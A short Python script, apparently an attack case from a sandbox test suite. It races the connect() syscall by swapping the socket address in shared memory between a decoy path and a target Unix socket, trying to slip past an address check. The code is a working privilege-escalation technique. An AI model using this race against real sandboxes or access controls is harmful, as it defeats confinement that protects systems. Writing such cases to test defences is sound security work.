# Another process changes the address between the one of our own socket and theirs.
import ctypes
import mmap
import os
import socket

from calls import call, unix
from inside import Meanwhile, run

CONNECT = 42 if os.uname().machine == "x86_64" else 203
ATTEMPTS = 3000


def attack(target):
    mine = f"{target.directory}/" + "m" * len(os.path.basename(target.name))
    own = socket.socket(socket.AF_UNIX)
    own.bind(mine)
    own.listen(1)
    own.setblocking(False)
    addresses = [unix(mine), unix(target.name)]
    address = (ctypes.c_char * len(addresses[0])).from_buffer(mmap.mmap(-1, 4096))  # shared with the other process

    def change():
        for one in addresses:
            ctypes.memmove(address, one, len(one))

    change()
    refused = OSError("never")
    with Meanwhile(change):
        for _ in range(ATTEMPTS):
            with socket.socket(socket.AF_UNIX) as client:
                try:
                    call(CONNECT, client.fileno(), address, len(addresses[0]))
                    if client.getpeername() == target.name:
                        client.sendall(b"out")
                        return
                    own.accept()[0].close()
                except OSError as error:
                    refused = error
    raise refused


run(attack)
